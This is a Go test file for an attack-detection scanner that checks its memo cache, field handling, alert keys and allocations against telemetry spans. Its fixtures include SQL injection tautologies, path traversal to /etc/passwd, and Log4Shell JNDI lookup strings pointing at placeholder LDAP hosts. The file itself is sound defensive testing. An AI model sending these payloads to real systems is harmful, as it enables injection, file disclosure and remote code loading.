package detect

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"
	"unsafe"

	"github.com/google/go-cmp/cmp"

	"github.com/evidentsec/evident/internal/redact"
	"github.com/evidentsec/evident/internal/telemetry"
)

func TestGenerations(t *testing.T) {
	tests := []struct {
		name string
		// ops are "put k" or "get k"; max is 4, so a generation holds 2.
		ops  []string
		want []string // the keys known at the end
	}{
		{"fills the current generation", []string{"put a", "put b"}, []string{"a", "b"}},
		{"a full generation becomes the previous one", []string{"put a", "put b", "put c"}, []string{"a", "b", "c"}},
		{"the previous generation is forgotten", []string{"put a", "put b", "put c", "put d", "put e"}, []string{"c", "d", "e"}},
		{"a key used again moves into the current one", []string{"put a", "put b", "put c", "get a", "put d"}, []string{"a", "c", "d"}},
		{"a missing key is not made", []string{"get x", "put a"}, []string{"a"}},
		{"a key put again keeps one entry", []string{"put a", "put a", "put a"}, []string{"a"}},
		{"a key too long is not kept", []string{"put " + strings.Repeat("k", memoKeyBytes+1), "put a"}, []string{"a"}},
		{"a key at the bound is kept", []string{"put " + strings.Repeat("k", memoKeyBytes)}, []string{strings.Repeat("k", memoKeyBytes)}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			g := newGenerations[int](4)
			for i, op := range tt.ops {
				verb, k, _ := strings.Cut(op, " ")
				if verb == "put" {
					g.put([]byte(k), i)
				} else {
					g.get([]byte(k))
				}
				if n := len(g.cur) + len(g.prev); n > g.max {
					t.Fatalf("after %q: %d keys, bound %d", op, n, g.max)
				}
			}
			got := slices.Sorted(maps.Keys(g.cur))
			got = append(got, slices.Collect(maps.Keys(g.prev))...)
			slices.Sort(got)
			if diff := cmp.Diff(got, tt.want); diff != "" {
				t.Errorf("keys (-got +want):\n%s", diff)
			}
		})
	}
}

// hits scans sp and returns its hits, by rule id.
func hits(scan func(*telemetry.Span, func(Hit)), sp *telemetry.Span) map[string]Hit {
	out := map[string]Hit{}
	scan(sp, func(h Hit) { out[h.Rule.ID] = h })
	return out
}

// TestScannerMemo checks that a Scanner reports exactly what Rules.Scan
// reports, for a value it scans the first time and for one it takes
// from its memo: the same rules, fields, matches, decoded values and
// offsets.
func TestScannerMemo(t *testing.T) {
	rules := mustRules(t)
	s := rules.NewScanner(nil)
	for _, v := range corpus()[:1500] {
		for _, f := range fields {
			name := string(f)
			if f == FieldRequestHeader {
				name += ".x-test"
			}
			sp := spanWith(name, v)
			want := hits(rules.Scan, &sp)
			for _, pass := range []string{"first", "memoised"} {
				if diff := cmp.Diff(hits(s.Scan, &sp), want); diff != "" {
					t.Fatalf("%s scan of %s=%q (-got +want):\n%s", pass, name, v, diff)
				}
			}
		}
	}
	if n := len(s.values.cur) + len(s.values.prev); n > valueEntries {
		t.Errorf("the memo holds %d values, bound %d", n, valueEntries)
	}
}

// TestScannerMemoFields checks that the memo tells fields apart: the
// same text decodes differently in url.query, the rules differ by
// field, a rule fires once per span whichever field it matched first,
// and a header's hit names its header.
func TestScannerMemoFields(t *testing.T) {
	rules := mustRules(t)
	tests := []struct {
		name  string
		attrs telemetry.Attrs
		kind  telemetry.SpanKind
		want  map[string]string // rule id -> field of its hit
	}{
		{
			name:  "plus is a space in the query only",
			attrs: telemetry.Attrs{URLPath: "/x/1'+or+'1'='1", URLQuery: "1'+or+'1'='1"},
			want:  map[string]string{"sqli-tautology": "url.query"},
		},
		{
			name:  "rules differ by field",
			attrs: telemetry.Attrs{DBQueryText: "x' OR '1'='1'", URLQuery: "x' OR '1'='1'"},
			kind:  telemetry.SpanKindClient,
			want:  map[string]string{"sqli-tautology": "url.query", "sqli-db-tautology": "db.query.text"},
		},
		{
			name:  "a rule fires once per span",
			attrs: telemetry.Attrs{URLPath: "/../../etc/passwd", URLQuery: "/../../etc/passwd"},
			want:  map[string]string{"path-traversal": "url.path", "sensitive-file": "url.path"},
		},
		{
			name:  "a header names itself",
			attrs: telemetry.Attrs{RequestHeaders: map[string]string{"x-api-version": "${jndi:ldap://x/a}"}},
			want:  map[string]string{"jndi-lookup": "http.request.header.x-api-version"},
		},
	}
	s := rules.NewScanner(nil)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			sp := telemetry.Span{Service: "shop", Kind: tt.kind, Name: "GET /x", Attrs: tt.attrs}
			if sp.Kind == telemetry.SpanKindUnspecified {
				sp.Kind = telemetry.SpanKindServer
			}
			want := hits(rules.Scan, &sp)
			fieldsOf := func(hs map[string]Hit) map[string]string {
				out := map[string]string{}
				for id, h := range hs {
					out[id] = h.Field
				}
				return out
			}
			if diff := cmp.Diff(fieldsOf(want), tt.want); diff != "" {
				t.Fatalf("Rules.Scan (-got +want):\n%s", diff)
			}
			for range 2 {
				if diff := cmp.Diff(hits(s.Scan, &sp), want); diff != "" {
					t.Errorf("Scanner.Scan (-got +Rules.Scan):\n%s", diff)
				}
			}
			// The same values one by one, each in its own span, then
			// together again, from the memo.
			for _, v := range []string{tt.attrs.URLPath, tt.attrs.URLQuery} {
				one := sp
				one.Attrs = telemetry.Attrs{URLPath: v}
				hits(s.Scan, &one)
			}
			if diff := cmp.Diff(hits(s.Scan, &sp), want); diff != "" {
				t.Errorf("Scanner.Scan after the values alone (-got +Rules.Scan):\n%s", diff)
			}
		})
	}
}

// TestScannerMemoKeeps checks what the memo keeps: values that cost more
// than the automaton's pass, up to the length bound, as copies.
func TestScannerMemoKeeps(t *testing.T) {
	tests := []struct {
		name, value string
		kept        bool
	}{
		{"clean, no anchor", "currency=EUR&ref=home_page", false},
		{"clean, encoded", "q=red%20shoes", true},
		{"clean, an anchor", "q=it's a test; isn't it", true},
		{"attack", "id=1%27%20OR%201=1--", true},
		{"attack at the bound", "id=1%27%20OR%201=1--" + strings.Repeat("a", memoKeyBytes-21), true},
		{"attack past the bound", "id=1%27%20OR%201=1--" + strings.Repeat("a", memoKeyBytes-20), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := mustRules(t).NewScanner(nil)
			buf := []byte(tt.value)
			sp := spanWith("url.query", string(buf))
			hits(s.Scan, &sp)
			// The memo's key is a copy: the value's buffer can be reused.
			copy(buf, strings.Repeat("z", len(buf)))
			_, kept := s.values.get(append([]byte{byte(slices.Index(fields, FieldURLQuery))}, tt.value...))
			if kept != tt.kept {
				t.Errorf("kept = %v, want %v", kept, tt.kept)
			}
		})
	}
}

// TestExploitsMemo checks that the alerts of a Scanner are the same
// whether their value and key come from its memos or not.
func TestExploitsMemo(t *testing.T) {
	rules := mustRules(t)
	red, err := redact.New(redact.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	s := rules.NewScanner(red)
	for i, v := range []string{
		"access_token=SECRET123&q=%24%7Bjndi:ldap://x.example/a%7D", "id=1%27%20OR%201=1--", "q=../../etc/passwd",
		"f=../../etc/passwd&id=1%27%20OR%201=1--", // two rules, one span
	} {
		for j, route := range []string{"/search", "/items/{id}", "/users/{email}"} {
			for _, service := range []string{"shop", "cart"} {
				sp := spanWith("url.query", v)
				sp.Service = service
				sp.Attrs.HTTPRoute = route
				sp.TraceID, sp.SpanID = [16]byte{byte(i)}, [8]byte{byte(j)}
				want := exploits(rules, &sp, red, tm(0), tm(1))
				for pass := range 3 {
					var got []Alert
					s.Exploits(&sp, tm(0), tm(1), func(p *Pending) {
						a := p.Alert()
						if p.Kind != a.Kind || p.Service != a.Service || p.DedupeKey != a.DedupeKey || p.ReceivedAt != a.ReceivedAt {
							t.Errorf("pending %+v does not head its alert %+v", p, a)
						}
						// The key names what the alert is about, made
						// independently of the scanner's memos.
						if want := "exploit_payload|" + service + "|GET " + route + "|" + a.Evidence.Rule; a.DedupeKey != want {
							t.Errorf("dedupe key %q, want %q", a.DedupeKey, want)
						}
						got = append(got, a)
					})
					if diff := cmp.Diff(got, want); diff != "" {
						t.Errorf("pass %d, %s %s %s: (-got +want):\n%s", pass, service, route, v, diff)
					}
				}
			}
		}
	}
}

// TestExploitsAllocs checks that a span the Scanner has seen the like of
// (a scanner's payload repeated against an endpoint) raises its pending
// alert without allocating.
func TestExploitsAllocs(t *testing.T) {
	red, err := redact.New(redact.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	s := mustRules(t).NewScanner(red)
	sp := spanWith("url.query", "id=1%27%20OR%201=1--")
	sp.Attrs.UserAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
	n := 0
	fire := func(p *Pending) { n++ }
	s.Exploits(&sp, tm(0), tm(1), fire)
	if n != 1 {
		t.Fatalf("%d alerts, want 1", n)
	}
	if allocs := testing.AllocsPerRun(100, func() { s.Exploits(&sp, tm(0), tm(1), fire) }); allocs != 0 {
		t.Errorf("Exploits of a span seen before: %v allocations, want 0", allocs)
	}
}

// TestScannerMemoBound feeds a Scanner more distinct attack values and
// endpoints than its memos hold.
func TestScannerMemoBound(t *testing.T) {
	s := mustRules(t).NewScanner(nil)
	for i := range 3 * valueEntries {
		sp := spanWith("url.query", fmt.Sprintf("id=%d%%27%%20OR%%201=1--", i))
		sp.Attrs.HTTPRoute = fmt.Sprintf("/r/%d", i)
		s.Exploits(&sp, time.Time{}, time.Time{}, func(*Pending) {})
		if n := len(s.values.cur) + len(s.values.prev); n > valueEntries {
			t.Fatalf("after %d values: %d in the memo, bound %d", i+1, n, valueEntries)
		}
		if n := len(s.keys.cur) + len(s.keys.prev); n > keyEntries {
			t.Fatalf("after %d keys: %d in the memo, bound %d", i+1, n, keyEntries)
		}
	}
}

// TestScannerCleanValues: a value the automaton found nothing in is
// skipped when the next span of its field has it again, and is compared
// as it was, not where it was: a receiver decodes the next request into
// the same buffer, so a payload can come at the address and length of
// the clean value before it.
func TestScannerCleanValues(t *testing.T) {
	rules := mustRules(t)
	s := rules.NewScanner(nil)
	const clean, attack = "python-requests/2.32.3", "${jndi:ldap://e/a}xxxx"
	if len(clean) != len(attack) {
		t.Fatalf("the two values must have the same length: %d, %d", len(clean), len(attack))
	}
	buf := []byte(clean)
	inBuf := unsafe.String(&buf[0], len(buf)) // as the span of a request decoded in buf
	tests := []struct {
		name, ua string
		write    string // written into buf before the span is scanned
		want     []string
	}{
		{name: "clean, in the request's buffer", ua: inBuf},
		{name: "the next request, an attack where the clean value was", ua: inBuf, write: attack, want: []string{"jndi-lookup"}},
		{name: "clean", ua: clean},
		{name: "clean again", ua: clean},
		{name: "the clean value written back", ua: inBuf, write: clean},
		{name: "the attack again", ua: inBuf, write: attack, want: []string{"jndi-lookup"}},
	}
	for _, tt := range tests {
		if tt.write != "" {
			copy(buf, tt.write)
		}
		sp := spanWith("user_agent.original", tt.ua)
		got := slices.Sorted(maps.Keys(hits(s.Scan, &sp)))
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("%s: rules (-want +got):\n%s", tt.name, diff)
		}
		if fi := fieldUserAgent; tt.want == nil && string(s.clean[fi]) != clean {
			t.Errorf("%s: the scanner keeps %q as the field's clean value, want %q", tt.name, s.clean[fi], clean)
		}
	}
}
